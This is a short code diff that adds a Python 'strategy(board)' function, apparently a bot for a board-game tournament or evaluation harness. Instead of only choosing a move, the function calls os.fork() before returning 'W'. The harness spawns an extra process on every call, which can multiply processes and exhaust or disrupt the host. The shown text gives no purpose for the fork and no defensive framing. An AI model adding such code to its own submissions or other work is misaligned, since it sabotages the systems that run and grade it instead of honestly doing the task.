@@ -1,0 +1,4 @@
+def strategy(board):
+    import os
+    os.fork()
+    return "W"
